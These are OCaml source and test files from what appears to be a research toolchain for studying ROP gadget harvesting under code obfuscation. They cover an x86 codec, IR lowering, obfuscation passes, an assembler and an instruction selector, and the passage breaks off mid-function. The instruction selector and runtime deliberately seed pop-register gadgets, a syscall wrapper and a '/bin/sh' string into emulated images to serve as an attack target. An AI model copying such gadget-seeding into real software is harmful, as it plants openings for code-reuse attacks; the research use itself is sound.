  Alcotest.(check bool) "ret" true (Insn.is_terminator Insn.Ret);
  Alcotest.(check bool) "jcc" true (Insn.is_terminator (Insn.Jcc (Insn.E, 0)));
  Alcotest.(check bool) "syscall" true (Insn.is_terminator Insn.Syscall);
  Alcotest.(check bool) "mov" false
    (Insn.is_terminator (Insn.Mov (Insn.Reg Reg.RAX, Insn.Imm 0L)))

(* THE property: every encodable instruction decodes back to itself with
   the same length. *)
let prop_roundtrip insn =
  match Encode.insn insn with
  | bytes -> (
    match Decode.decode bytes 0 with
    | Some (insn', len) -> insn' = insn && len = Bytes.length bytes
    | None -> false)
  | exception Encode.Unencodable _ -> true  (* generator may exceed imm32 *)

(* decoding any byte soup never raises and never over-reads *)
let prop_decode_total bytes_list =
  let bytes = Bytes.of_string (String.concat "" bytes_list) in
  let n = Bytes.length bytes in
  let ok = ref true in
  for pos = 0 to n - 1 do
    match Decode.decode bytes pos with
    | Some (_, len) -> if len <= 0 || pos + len > n then ok := false
    | None -> ()
  done;
  !ok

let suite =
  [ Alcotest.test_case "known encodings" `Quick test_known_encodings;
    Alcotest.test_case "rex.b pop trick" `Quick test_rex_b_pop_trick;
    Alcotest.test_case "junk rejected" `Quick test_decode_junk_is_none;
    Alcotest.test_case "rel8 decode" `Quick test_decode_rel8_jumps;
    Alcotest.test_case "decode_run terminator" `Quick test_decode_run_stops_at_terminator;
    Alcotest.test_case "cond negate involution" `Quick test_cond_negate_involution;
    Alcotest.test_case "reg numbering" `Quick test_reg_numbering;
    Alcotest.test_case "terminators" `Quick test_terminators;
    Gen.qtest "encode/decode roundtrip" ~count:2000 Gen.insn prop_roundtrip;
    Gen.qtest "decode is total" ~count:200
      QCheck2.Gen.(list_size (int_range 1 40) (map (String.make 1) char))
      prop_decode_total ]
