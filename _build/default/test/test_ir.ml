(* Tests for the IR: lowering output shape, CFG helpers, cloning. *)

open Gp_ir

let lower src = Gp_ir.Lower.lower_program (Gp_minic.Check.parse_and_check src)

let test_lower_simple () =
  let p = lower "int main() { return 1 + 2; }" in
  Alcotest.(check int) "one function" 1 (List.length p.Ir.p_funcs);
  let f = List.hd p.Ir.p_funcs in
  Alcotest.(check string) "name" "main" f.Ir.f_name;
  Alcotest.(check bool) "has blocks" true (List.length f.Ir.f_blocks >= 1)

let test_lower_branch_blocks () =
  let p = lower "int main() { int x = 1; if (x) { x = 2; } else { x = 3; } return x; }" in
  let f = List.hd p.Ir.p_funcs in
  (* entry + then + else + endif at least *)
  Alcotest.(check bool) "several blocks" true (List.length f.Ir.f_blocks >= 4);
  (* every referenced label exists *)
  List.iter
    (fun b ->
      List.iter
        (fun l -> ignore (Ir.find_block f l))
        (Ir.successors b.Ir.b_term))
    f.Ir.f_blocks

let test_lower_loop_has_backedge () =
  let p = lower "int main() { int i = 0; while (i < 5) { i = i + 1; } return i; }" in
  let f = List.hd p.Ir.p_funcs in
  (* some block must jump to an earlier block (a back edge) *)
  let labels = List.mapi (fun i b -> (b.Ir.b_label, i)) f.Ir.f_blocks in
  let idx l = List.assoc l labels in
  let has_backedge =
    List.exists
      (fun b ->
        List.exists
          (fun succ -> idx succ <= idx b.Ir.b_label)
          (Ir.successors b.Ir.b_term))
      f.Ir.f_blocks
  in
  Alcotest.(check bool) "backedge" true has_backedge

let test_lower_array_slots () =
  let p = lower "int main() { int a[10]; a[0] = 1; return a[0]; }" in
  let f = List.hd p.Ir.p_funcs in
  Alcotest.(check bool) "10+ slots" true (f.Ir.f_frame_slots >= 10)

let test_lower_string_data () =
  let p = lower {|int main() { int s = "hi"; return s; }|} in
  Alcotest.(check bool) "string blob present" true
    (List.exists
       (fun d -> Bytes.to_string d.Ir.d_bytes = "hi\000")
       p.Ir.p_data)

let test_lower_globals () =
  let p = lower "int g = 7; int arr[2] = {1, 2}; int main() { return g; }" in
  let g = List.find (fun d -> d.Ir.d_name = "g") p.Ir.p_data in
  Alcotest.(check int64) "g init" 7L (Bytes.get_int64_le g.Ir.d_bytes 0);
  let arr = List.find (fun d -> d.Ir.d_name = "arr") p.Ir.p_data in
  Alcotest.(check int) "arr size" 16 (Bytes.length arr.Ir.d_bytes);
  Alcotest.(check int64) "arr[1]" 2L (Bytes.get_int64_le arr.Ir.d_bytes 8)

let test_addr_taken_forces_slot () =
  let p = lower "int main() { int x = 1; int *p = &x; *p = 2; return x; }" in
  let f = List.hd p.Ir.p_funcs in
  Alcotest.(check bool) "x got a slot" true (f.Ir.f_frame_slots >= 1)

let test_clone_is_deep () =
  let p = lower "int main() { int x = 1; if (x) { x = 2; } return x; }" in
  let q = Ir.clone_program p in
  let f = List.hd q.Ir.p_funcs in
  let b = List.hd f.Ir.f_blocks in
  b.Ir.b_instrs <- [];
  let orig = List.hd (List.hd p.Ir.p_funcs).Ir.f_blocks in
  Alcotest.(check bool) "original untouched" true (orig.Ir.b_instrs <> [])

let test_fresh_temp_monotonic () =
  let p = lower "int main() { return 0; }" in
  let f = List.hd p.Ir.p_funcs in
  let a = Ir.fresh_temp f in
  let b = Ir.fresh_temp f in
  Alcotest.(check bool) "distinct" true (a <> b && b = a + 1)

let test_printing_total () =
  (* the printer must handle every construct without raising *)
  let p =
    lower
      {|int g = 1;
        int f(int a, int b) { return a * b; }
        int main() {
          int arr[3];
          int i;
          for (i = 0; i < 3; i = i + 1) { arr[i] = f(i, g); }
          print(arr[2]);
          return arr[2];
        }|}
  in
  Alcotest.(check bool) "nonempty" true (String.length (Ir.string_of_program p) > 100)

let test_program_size () =
  let small = lower "int main() { return 0; }" in
  let large = lower "int main() { int a = 1; int b = 2; int c = a + b; print(c); return c; }" in
  Alcotest.(check bool) "size grows" true
    (Ir.program_size large > Ir.program_size small)

let suite =
  [ Alcotest.test_case "lower simple" `Quick test_lower_simple;
    Alcotest.test_case "lower branch blocks" `Quick test_lower_branch_blocks;
    Alcotest.test_case "lower loop backedge" `Quick test_lower_loop_has_backedge;
    Alcotest.test_case "lower array slots" `Quick test_lower_array_slots;
    Alcotest.test_case "lower string data" `Quick test_lower_string_data;
    Alcotest.test_case "lower globals" `Quick test_lower_globals;
    Alcotest.test_case "addr taken forces slot" `Quick test_addr_taken_forces_slot;
    Alcotest.test_case "clone is deep" `Quick test_clone_is_deep;
    Alcotest.test_case "fresh temp monotonic" `Quick test_fresh_temp_monotonic;
    Alcotest.test_case "printing total" `Quick test_printing_total;
    Alcotest.test_case "program size" `Quick test_program_size ]
