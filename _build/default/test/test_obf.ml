(* Tests for the obfuscation passes: semantic preservation (differential
   against the unobfuscated run), structural effects (code growth, the
   artifacts each pass is supposed to inject), and the opaque-predicate
   property. *)

let compile_run ?(fuel = 30_000_000) ?(cfg = Gp_obf.Obf.none) src =
  let image =
    Gp_codegen.Pipeline.compile ~transform:(Gp_obf.Obf.transform cfg) src
  in
  let outcome, m = Gp_emu.Machine.run_image ~fuel image in
  (outcome, Gp_emu.Machine.output m, image)

let fingerprint src cfg =
  match compile_run ~cfg src with
  | Gp_emu.Machine.Exited v, out, _ -> (v, out)
  | Gp_emu.Machine.Fault m, _, _ -> Alcotest.failf "fault: %s" m
  | Gp_emu.Machine.Timeout, _, _ -> Alcotest.fail "timeout"
  | Gp_emu.Machine.Attacked _, _, _ -> Alcotest.fail "attacked"

let reference_src =
  {|
int helper(int a, int b) {
  if (a > b) { return a - b; }
  return b - a;
}
int main() {
  int acc = 0;
  int i;
  for (i = 0; i < 12; i = i + 1) {
    acc = acc * 3 + helper(i, (i * 7) & 15);
    if (acc & 1) { acc = acc ^ 0x55; }
  }
  print(acc);
  return acc & 127;
}
|}

let check_preserves name cfg =
  let expected = fingerprint reference_src Gp_obf.Obf.none in
  let got = fingerprint reference_src cfg in
  Alcotest.(check bool) (name ^ " preserves semantics") true (expected = got)

let test_each_pass_preserves () =
  List.iter
    (fun pass -> check_preserves (Gp_obf.Obf.pass_name pass) (Gp_obf.Obf.single pass))
    Gp_obf.Obf.all_passes

let test_presets_preserve () =
  check_preserves "ollvm" Gp_obf.Obf.ollvm;
  check_preserves "tigress" Gp_obf.Obf.tigress

let test_seed_changes_output_not_semantics () =
  let cfg1 = Gp_obf.Obf.config ~seed:1 Gp_obf.Obf.ollvm.Gp_obf.Obf.passes in
  let cfg2 = Gp_obf.Obf.config ~seed:2 Gp_obf.Obf.ollvm.Gp_obf.Obf.passes in
  let _, _, img1 = compile_run ~cfg:cfg1 reference_src in
  let _, _, img2 = compile_run ~cfg:cfg2 reference_src in
  Alcotest.(check bool) "different binaries" true
    (img1.Gp_util.Image.code <> img2.Gp_util.Image.code);
  Alcotest.(check bool) "same behaviour" true
    (fingerprint reference_src cfg1 = fingerprint reference_src cfg2)

let test_code_growth () =
  let _, _, base = compile_run reference_src in
  List.iter
    (fun (name, cfg, factor) ->
      let _, _, obf = compile_run ~cfg reference_src in
      let b = Gp_util.Image.code_size base in
      let o = Gp_util.Image.code_size obf in
      if o < int_of_float (float_of_int b *. factor) then
        Alcotest.failf "%s grew only %d -> %d" name b o)
    [ ("ollvm", Gp_obf.Obf.ollvm, 2.0); ("tigress", Gp_obf.Obf.tigress, 3.0) ]

let test_virtualize_injects_bytecode_and_dispatch () =
  let ir = Gp_codegen.Pipeline.to_ir reference_src in
  let obf = Gp_obf.Obf.apply (Gp_obf.Obf.single Gp_obf.Obf.Virtualize) ir in
  Alcotest.(check bool) "bytecode blob" true
    (List.exists
       (fun (d : Gp_ir.Ir.data) ->
         String.length d.Gp_ir.Ir.d_name >= 3 && String.sub d.Gp_ir.Ir.d_name 0 3 = "vm$")
       obf.Gp_ir.Ir.p_data);
  let f = List.find (fun f -> f.Gp_ir.Ir.f_name = "main") obf.Gp_ir.Ir.p_funcs in
  Alcotest.(check bool) "switch dispatch" true
    (List.exists
       (fun (b : Gp_ir.Ir.block) ->
         match b.Gp_ir.Ir.b_term with Gp_ir.Ir.Switch _ -> true | _ -> false)
       f.Gp_ir.Ir.f_blocks)

let test_flatten_adds_dispatcher () =
  let ir = Gp_codegen.Pipeline.to_ir reference_src in
  let before =
    List.length
      (List.find (fun f -> f.Gp_ir.Ir.f_name = "main") ir.Gp_ir.Ir.p_funcs).Gp_ir.Ir.f_blocks
  in
  let obf = Gp_obf.Obf.apply (Gp_obf.Obf.single Gp_obf.Obf.Flatten) ir in
  let f = List.find (fun f -> f.Gp_ir.Ir.f_name = "main") obf.Gp_ir.Ir.p_funcs in
  Alcotest.(check bool) "more blocks" true (List.length f.Gp_ir.Ir.f_blocks > before);
  Alcotest.(check bool) "switch dispatcher" true
    (List.exists
       (fun (b : Gp_ir.Ir.block) ->
         match b.Gp_ir.Ir.b_term with Gp_ir.Ir.Switch _ -> true | _ -> false)
       f.Gp_ir.Ir.f_blocks)

let test_bogus_cf_adds_blocks () =
  let ir = Gp_codegen.Pipeline.to_ir reference_src in
  let count p =
    List.fold_left (fun acc f -> acc + List.length f.Gp_ir.Ir.f_blocks) 0 p.Gp_ir.Ir.p_funcs
  in
  let before = count ir in
  let obf = Gp_obf.Obf.apply (Gp_obf.Obf.single Gp_obf.Obf.Bogus_cf) ir in
  Alcotest.(check bool) "junk blocks added" true (count obf > before)

let test_substitution_grows_instrs () =
  let ir = Gp_codegen.Pipeline.to_ir reference_src in
  let before = Gp_ir.Ir.program_size ir in
  let obf = Gp_obf.Obf.apply (Gp_obf.Obf.single Gp_obf.Obf.Substitution) ir in
  Alcotest.(check bool) "more instructions" true (Gp_ir.Ir.program_size obf > before)

let test_original_ir_untouched () =
  let ir = Gp_codegen.Pipeline.to_ir reference_src in
  let size = Gp_ir.Ir.program_size ir in
  let _ = Gp_obf.Obf.apply Gp_obf.Obf.tigress ir in
  Alcotest.(check int) "input IR unchanged" size (Gp_ir.Ir.program_size ir)

(* The opaque predicates must be TRUE under every assignment of their
   "entropy" loads. *)
let prop_opaque_always_true seed =
  let rng = Gp_util.Rng.create seed in
  let prog = { Gp_ir.Ir.p_funcs = []; p_data = [] } in
  let f =
    { Gp_ir.Ir.f_name = "t"; f_params = []; f_blocks = []; f_next_temp = 0;
      f_frame_slots = 0; f_next_label = 0 }
  in
  let instrs, result = Gp_obf.Opaque.always_true rng prog f in
  let vrng = Gp_util.Rng.create ((seed * 7) + 1) in
  let env = Hashtbl.create 8 in
  let value = function
    | Gp_ir.Ir.T t -> (try Hashtbl.find env t with Not_found -> 0L)
    | Gp_ir.Ir.I i -> i
    | Gp_ir.Ir.G _ -> 0L
  in
  List.iter
    (fun i ->
      match i with
      | Gp_ir.Ir.Load (d, _, _) -> Hashtbl.replace env d (Gp_util.Rng.next_int64 vrng)
      | Gp_ir.Ir.Bin (op, d, a, b) ->
        let a = value a and b = value b in
        Hashtbl.replace env d
          (match op with
           | Gp_ir.Ir.Add -> Int64.add a b
           | Gp_ir.Ir.Sub -> Int64.sub a b
           | Gp_ir.Ir.Mul -> Int64.mul a b
           | Gp_ir.Ir.And -> Int64.logand a b
           | Gp_ir.Ir.Or -> Int64.logor a b
           | Gp_ir.Ir.Xor -> Int64.logxor a b
           | Gp_ir.Ir.Shl -> Int64.shift_left a (Int64.to_int b land 63)
           | Gp_ir.Ir.Shr -> Int64.shift_right_logical a (Int64.to_int b land 63)
           | Gp_ir.Ir.Sar -> Int64.shift_right a (Int64.to_int b land 63))
      | Gp_ir.Ir.Cmp (rel, d, a, b) ->
        let a = value a and b = value b in
        let r =
          match rel with
          | Gp_ir.Ir.Eq -> a = b
          | Gp_ir.Ir.Ne -> a <> b
          | Gp_ir.Ir.Lt -> Int64.compare a b < 0
          | Gp_ir.Ir.Le -> Int64.compare a b <= 0
          | Gp_ir.Ir.Gt -> Int64.compare a b > 0
          | Gp_ir.Ir.Ge -> Int64.compare a b >= 0
        in
        Hashtbl.replace env d (if r then 1L else 0L)
      | Gp_ir.Ir.Mov (d, s) -> Hashtbl.replace env d (value s)
      | _ -> ())
    instrs;
  Hashtbl.find env result <> 0L

let suite =
  [ Alcotest.test_case "each pass preserves semantics" `Slow test_each_pass_preserves;
    Alcotest.test_case "presets preserve semantics" `Slow test_presets_preserve;
    Alcotest.test_case "seed variation" `Quick test_seed_changes_output_not_semantics;
    Alcotest.test_case "code growth" `Quick test_code_growth;
    Alcotest.test_case "virtualize structure" `Quick
      test_virtualize_injects_bytecode_and_dispatch;
    Alcotest.test_case "flatten dispatcher" `Quick test_flatten_adds_dispatcher;
    Alcotest.test_case "bogus cf blocks" `Quick test_bogus_cf_adds_blocks;
    Alcotest.test_case "substitution grows" `Quick test_substitution_grows_instrs;
    Alcotest.test_case "input IR untouched" `Quick test_original_ir_untouched;
    Gen.qtest "opaque predicates always true" ~count:300
      QCheck2.Gen.(int_range 0 1000000) prop_opaque_always_true ]
