(** Assembler/linker: turns the instruction-selection item stream into a
    loadable {!Gp_util.Image.t}.  Two passes over the items (sizes then
    bytes), one patch pass for jump tables (data cells holding absolute
    code addresses). *)

type item =
  | Ins of Gp_x86.Insn.t
  | Label of string                 (** position marker: block or function *)
  | JmpL of string                  (** jmp rel32 to label *)
  | JccL of Gp_x86.Insn.cond * string
  | CallF of string                 (** call rel32 to function label *)
  | MovSym of Gp_x86.Reg.t * string (** movabs reg, &symbol (data or code) *)

exception Link_error of string

val item_size : item -> int

val assemble :
  ?code_base:int64 ->
  ?data_base:int64 ->
  items:item list ->
  data:(string * Bytes.t) list ->
  jump_tables:(string * string array) list ->
  func_names:string list ->
  entry_label:string ->
  unit ->
  Gp_util.Image.t
(** Lay out data (8-aligned), resolve labels, encode, patch jump tables
    with absolute code addresses, and build the symbol table.  Raises
    {!Link_error} on duplicate or undefined labels. *)
