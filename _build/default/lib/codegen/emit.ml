(* Assembler/linker: turns the instruction-selection item stream into a
   loadable [Image].

   Two passes over the items (sizes then bytes), one patch pass for jump
   tables (data cells holding absolute code addresses, used by Switch
   lowering and by obfuscation dispatchers). *)

open Gp_x86

type item =
  | Ins of Insn.t
  | Label of string                 (* position marker: block or function *)
  | JmpL of string                  (* jmp rel32 to label *)
  | JccL of Insn.cond * string      (* jcc rel32 to label *)
  | CallF of string                 (* call rel32 to function label *)
  | MovSym of Reg.t * string        (* movabs reg, &symbol (data or code) *)

exception Link_error of string

let fail fmt = Printf.ksprintf (fun m -> raise (Link_error m)) fmt

let item_size = function
  | Ins i -> Encode.length i
  | Label _ -> 0
  | JmpL _ -> 5
  | JccL _ -> 6
  | CallF _ -> 5
  | MovSym _ -> 10

type layout = {
  label_off : (string, int) Hashtbl.t;     (* label -> code offset *)
  data_off : (string, int) Hashtbl.t;      (* symbol -> data offset *)
  code_size : int;
  data_size : int;
}

let compute_layout items data =
  let label_off = Hashtbl.create 64 in
  let off = ref 0 in
  List.iter
    (fun item ->
      (match item with
       | Label l ->
         if Hashtbl.mem label_off l then fail "duplicate label %s" l;
         Hashtbl.replace label_off l !off
       | _ -> ());
      off := !off + item_size item)
    items;
  let data_off = Hashtbl.create 64 in
  let doff = ref 0 in
  List.iter
    (fun (name, bytes) ->
      if Hashtbl.mem data_off name then fail "duplicate data symbol %s" name;
      Hashtbl.replace data_off name !doff;
      (* keep every global 8-aligned *)
      doff := !doff + (Bytes.length bytes + 7) / 8 * 8)
    data;
  { label_off; data_off; code_size = !off; data_size = !doff }

let assemble ?(code_base = Gp_util.Image.default_code_base)
    ?(data_base = Gp_util.Image.default_data_base) ~items ~data
    ~(jump_tables : (string * string array) list) ~func_names ~entry_label () =
  let lay = compute_layout items data in
  let label_addr l =
    match Hashtbl.find_opt lay.label_off l with
    | Some off -> Int64.add code_base (Int64.of_int off)
    | None -> fail "undefined label %s" l
  in
  let sym_addr s =
    match Hashtbl.find_opt lay.data_off s with
    | Some off -> Int64.add data_base (Int64.of_int off)
    | None -> label_addr s
  in
  (* code *)
  let buf = Buffer.create lay.code_size in
  let off = ref 0 in
  List.iter
    (fun item ->
      let size = item_size item in
      (match item with
       | Ins i -> Encode.to_buffer buf i
       | Label _ -> ()
       | JmpL l ->
         let rel = Int64.to_int (Int64.sub (label_addr l) code_base) - (!off + size) in
         Encode.to_buffer buf (Insn.Jmp rel)
       | JccL (c, l) ->
         let rel = Int64.to_int (Int64.sub (label_addr l) code_base) - (!off + size) in
         Encode.to_buffer buf (Insn.Jcc (c, rel))
       | CallF f ->
         let rel = Int64.to_int (Int64.sub (label_addr f) code_base) - (!off + size) in
         Encode.to_buffer buf (Insn.Call rel)
       | MovSym (r, s) -> Encode.to_buffer buf (Insn.Movabs (r, sym_addr s)));
      off := !off + size;
      if Buffer.length buf <> !off then
        fail "size mismatch at offset %d (item encoded to unexpected length)" !off)
    items;
  let code = Buffer.to_bytes buf in
  (* data *)
  let dbytes = Bytes.make lay.data_size '\000' in
  List.iter
    (fun (name, b) ->
      let off = Hashtbl.find lay.data_off name in
      Bytes.blit b 0 dbytes off (Bytes.length b))
    data;
  (* patch jump tables with absolute code addresses *)
  List.iter
    (fun (table, labels) ->
      match Hashtbl.find_opt lay.data_off table with
      | None -> fail "jump table %s has no data cell" table
      | Some off ->
        Array.iteri
          (fun j l -> Bytes.set_int64_le dbytes (off + (8 * j)) (label_addr l))
          labels)
    jump_tables;
  (* symbol table: functions with sizes, data symbols *)
  let func_syms =
    let sorted =
      List.sort compare
        (List.filter_map
           (fun f -> Option.map (fun o -> (o, f)) (Hashtbl.find_opt lay.label_off f))
           func_names)
    in
    let rec sizes = function
      | [] -> []
      | [ (off, f) ] ->
        [ { Gp_util.Image.sym_name = f;
            sym_addr = Int64.add code_base (Int64.of_int off);
            sym_size = lay.code_size - off } ]
      | (off, f) :: ((off', _) :: _ as rest) ->
        { Gp_util.Image.sym_name = f;
          sym_addr = Int64.add code_base (Int64.of_int off);
          sym_size = off' - off }
        :: sizes rest
    in
    sizes sorted
  in
  let data_syms =
    List.map
      (fun (name, b) ->
        { Gp_util.Image.sym_name = name;
          sym_addr = sym_addr name;
          sym_size = Bytes.length b })
      data
  in
  Gp_util.Image.create ~code_base ~data_base ~symbols:(func_syms @ data_syms)
    ~entry:(label_addr entry_label) ~code ~data:dbytes ()
