(** Instruction selection: IR -> x86-64 item stream.

    Deliberately unoptimizing, like a -O0 C compiler: every temp lives in
    a stack slot and every IR instruction reloads its operands — faithful
    to the paper's setting and productive of the memory-access-rich
    instruction mix gadget harvesting feeds on.  Per function, the
    secondary scratch register is sometimes callee-saved (pushed in the
    prologue, popped in the epilogue), reproducing the classic
    pop-register epilogue gadgets of real compiled code.

    Every image also links a small RUNTIME standing in for libc/csu
    (DESIGN.md §7): a syscall wrapper, a register save/restore frame
    whose encoding yields the classic unaligned pop-rdi/rsi/rdx gadgets,
    branchy clamp/select/iabs helpers, and the "/bin/sh" string. *)

exception Isel_error of string

val runtime_items : Emit.item list
(** The runtime routines linked into every image. *)

val sel_func :
  table_counter:int ref ->
  Gp_ir.Ir.func ->
  Emit.item list * (string * string array) list
(** Select one function; returns its items and any jump tables. *)

val compile_program : Gp_ir.Ir.program -> Gp_util.Image.t
(** Whole program: _start stub + runtime + all functions, assembled. *)
