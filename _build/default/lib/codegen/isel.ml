(* Instruction selection: IR -> x86-64 item stream.

   Deliberately unoptimizing, like a -O0 C compiler: every temp lives in a
   stack slot, every IR instruction reloads its operands.  This is
   faithful to the paper's setting (their benchmarks are compiled without
   aggressive optimization) and produces the rich memory-access
   instruction mix that gadget harvesting feeds on. *)

open Gp_x86

exception Isel_error of string

let fail fmt = Printf.ksprintf (fun m -> raise (Isel_error m)) fmt

type fctx = {
  func : Gp_ir.Ir.func;
  mutable items : Emit.item list;            (* reversed *)
  mutable jump_tables : (string * string array) list;
  mutable next_local : int;                  (* local label counter *)
  mutable next_table : int ref;              (* program-wide jump table counter *)
  scratch2 : Reg.t;                          (* second scratch: rcx or callee-saved *)
  save_scratch2 : bool;                      (* scratch2 is callee-saved *)
}

(* Pick the function's secondary scratch register like a register
   allocator would: sometimes a caller-saved one, sometimes callee-saved
   (which real compilers then save/restore in the epilogue — the classic
   source of pop-reg gadgets). *)
let pick_scratch2 name =
  let h = Hashtbl.hash name in
  match h mod 4 with
  | 0 -> (Reg.RCX, false)
  | 1 -> (Reg.RBX, true)
  | 2 -> (Reg.R12, true)
  | _ -> (Reg.R14, true)

let emit ctx item = ctx.items <- item :: ctx.items
let ins ctx i = emit ctx (Emit.Ins i)

let fresh_local ctx prefix =
  let n = ctx.next_local in
  ctx.next_local <- n + 1;
  Printf.sprintf "%s.L%s%d" ctx.func.Gp_ir.Ir.f_name prefix n

(* Frame: saved callee-saved reg (optional), then alloca slots, then temp
   spill slots — all rbp-relative. *)
let save_area ctx = if ctx.save_scratch2 then 8 else 0

let slot_disp ctx slot = -(save_area ctx + (8 * (slot + 1)))

let temp_disp ctx t =
  -(save_area ctx + (8 * (ctx.func.Gp_ir.Ir.f_frame_slots + t + 1)))

let frame_size ctx =
  let words = ctx.func.Gp_ir.Ir.f_frame_slots + ctx.func.Gp_ir.Ir.f_next_temp in
  ((save_area ctx + (words * 8)) + 15) / 16 * 16 - save_area ctx

(* Load an operand into a register. *)
let load ctx reg (op : Gp_ir.Ir.operand) =
  match op with
  | Gp_ir.Ir.T t -> ins ctx (Insn.Mov (Insn.Reg reg, Insn.Mem (Insn.mem ~disp:(temp_disp ctx t) Reg.RBP)))
  | Gp_ir.Ir.I i ->
    if Encode.fits_imm32 i then ins ctx (Insn.Mov (Insn.Reg reg, Insn.Imm i))
    else ins ctx (Insn.Movabs (reg, i))
  | Gp_ir.Ir.G g -> emit ctx (Emit.MovSym (reg, g))

(* Store a register into a temp's slot. *)
let store_temp ctx t reg =
  ins ctx (Insn.Mov (Insn.Mem (Insn.mem ~disp:(temp_disp ctx t) Reg.RBP), Insn.Reg reg))

let cond_of_relop = function
  | Gp_ir.Ir.Eq -> Insn.E | Gp_ir.Ir.Ne -> Insn.NE | Gp_ir.Ir.Lt -> Insn.L
  | Gp_ir.Ir.Le -> Insn.LE | Gp_ir.Ir.Gt -> Insn.G | Gp_ir.Ir.Ge -> Insn.GE

let sel_instr ctx (i : Gp_ir.Ir.instr) =
  match i with
  | Gp_ir.Ir.Mov (d, s) ->
    load ctx Reg.RAX s;
    store_temp ctx d Reg.RAX
  | Gp_ir.Ir.Bin (op, d, a, b) -> (
    load ctx Reg.RAX a;
    (match op with
     | Gp_ir.Ir.Shl | Gp_ir.Ir.Shr | Gp_ir.Ir.Sar -> (
       match b with
       | Gp_ir.Ir.I k when k >= 0L && k < 64L ->
         let k = Int64.to_int k in
         ins ctx
           (match op with
            | Gp_ir.Ir.Shl -> Insn.Shl (Reg.RAX, k)
            | Gp_ir.Ir.Shr -> Insn.Shr (Reg.RAX, k)
            | _ -> Insn.Sar (Reg.RAX, k))
       | _ -> fail "%s: variable shift amount" ctx.func.Gp_ir.Ir.f_name)
     | _ ->
       let rb = ctx.scratch2 in
       load ctx rb b;
       ins ctx
         (match op with
          | Gp_ir.Ir.Add -> Insn.Add (Insn.Reg Reg.RAX, Insn.Reg rb)
          | Gp_ir.Ir.Sub -> Insn.Sub (Insn.Reg Reg.RAX, Insn.Reg rb)
          | Gp_ir.Ir.Mul -> Insn.Imul (Reg.RAX, rb)
          | Gp_ir.Ir.And -> Insn.And_ (Insn.Reg Reg.RAX, Insn.Reg rb)
          | Gp_ir.Ir.Or -> Insn.Or_ (Insn.Reg Reg.RAX, Insn.Reg rb)
          | Gp_ir.Ir.Xor -> Insn.Xor (Insn.Reg Reg.RAX, Insn.Reg rb)
          | Gp_ir.Ir.Shl | Gp_ir.Ir.Shr | Gp_ir.Ir.Sar -> assert false));
    store_temp ctx d Reg.RAX)
  | Gp_ir.Ir.Cmp (rel, d, a, b) ->
    load ctx Reg.RAX a;
    load ctx ctx.scratch2 b;
    let l_true = fresh_local ctx "cmp" in
    ins ctx (Insn.Mov (Insn.Reg Reg.RDX, Insn.Imm 1L));
    ins ctx (Insn.Cmp (Insn.Reg Reg.RAX, Insn.Reg ctx.scratch2));
    emit ctx (Emit.JccL (cond_of_relop rel, l_true));
    ins ctx (Insn.Mov (Insn.Reg Reg.RDX, Insn.Imm 0L));
    emit ctx (Emit.Label l_true);
    store_temp ctx d Reg.RDX
  | Gp_ir.Ir.Load (d, addr, off) ->
    load ctx Reg.RAX addr;
    ins ctx (Insn.Mov (Insn.Reg Reg.RAX, Insn.Mem (Insn.mem ~disp:off Reg.RAX)));
    store_temp ctx d Reg.RAX
  | Gp_ir.Ir.Store (addr, off, src) ->
    load ctx Reg.RAX addr;
    load ctx ctx.scratch2 src;
    ins ctx (Insn.Mov (Insn.Mem (Insn.mem ~disp:off Reg.RAX), Insn.Reg ctx.scratch2))
  | Gp_ir.Ir.AddrLocal (d, slot) ->
    ins ctx (Insn.Lea (Reg.RAX, Insn.mem ~disp:(slot_disp ctx slot) Reg.RBP));
    store_temp ctx d Reg.RAX
  | Gp_ir.Ir.CallI (d, f, args) ->
    if List.length args > List.length Reg.args then fail "call %s: too many args" f;
    List.iteri (fun k arg -> load ctx (List.nth Reg.args k) arg) args;
    emit ctx (Emit.CallF f);
    Option.iter (fun t -> store_temp ctx t Reg.RAX) d
  | Gp_ir.Ir.CallPtr (d, target, args) ->
    if List.length args > List.length Reg.args then fail "indirect call: too many args";
    List.iteri (fun k arg -> load ctx (List.nth Reg.args k) arg) args;
    (* r10 is neither an argument register nor the return register *)
    load ctx Reg.R10 target;
    ins ctx (Insn.CallReg Reg.R10);
    Option.iter (fun t -> store_temp ctx t Reg.RAX) d
  | Gp_ir.Ir.SyscallI (d, args) -> (
    match args with
    | nr :: rest when List.length rest <= 3 ->
      List.iteri (fun k arg -> load ctx (List.nth Reg.args k) arg) rest;
      load ctx Reg.RAX nr;
      ins ctx Insn.Syscall;
      Option.iter (fun t -> store_temp ctx t Reg.RAX) d
    | _ -> fail "syscall: expected 1-4 operands")

let sel_terminator ctx (t : Gp_ir.Ir.terminator) =
  match t with
  | Gp_ir.Ir.Jmp l -> emit ctx (Emit.JmpL l)
  | Gp_ir.Ir.Br (c, l1, l2) ->
    load ctx Reg.RAX c;
    ins ctx (Insn.Test (Reg.RAX, Reg.RAX));
    emit ctx (Emit.JccL (Insn.NE, l1));
    emit ctx (Emit.JmpL l2)
  | Gp_ir.Ir.Switch (idx, labels) ->
    (* movabs rdx, &table; rcx = idx*8; jmp [rdx + rcx] via add *)
    let n = !(ctx.next_table) in
    incr ctx.next_table;
    let table = Printf.sprintf "jt$%d" n in
    ctx.jump_tables <- (table, labels) :: ctx.jump_tables;
    load ctx Reg.RCX idx;
    ins ctx (Insn.Shl (Reg.RCX, 3));
    emit ctx (Emit.MovSym (Reg.RDX, table));
    ins ctx (Insn.Add (Insn.Reg Reg.RDX, Insn.Reg Reg.RCX));
    ins ctx (Insn.Mov (Insn.Reg Reg.RDX, Insn.Mem (Insn.mem Reg.RDX)));
    ins ctx (Insn.JmpReg Reg.RDX)
  | Gp_ir.Ir.Ret v ->
    (match v with
     | Some op -> load ctx Reg.RAX op
     | None -> ins ctx (Insn.Mov (Insn.Reg Reg.RAX, Insn.Imm 0L)));
    if ctx.save_scratch2 then begin
      (* restore the callee-saved scratch: classic compiler epilogue *)
      ins ctx (Insn.Lea (Reg.RSP, Insn.mem ~disp:(-8) Reg.RBP));
      ins ctx (Insn.Pop ctx.scratch2);
      ins ctx (Insn.Pop Reg.RBP);
      ins ctx Insn.Ret
    end
    else begin
      ins ctx Insn.Leave;
      ins ctx Insn.Ret
    end

let sel_func ~table_counter (f : Gp_ir.Ir.func) =
  let scratch2, save_scratch2 = pick_scratch2 f.Gp_ir.Ir.f_name in
  let ctx =
    { func = f; items = []; jump_tables = []; next_local = 0;
      next_table = table_counter; scratch2; save_scratch2 }
  in
  emit ctx (Emit.Label f.Gp_ir.Ir.f_name);
  ins ctx (Insn.Push Reg.RBP);
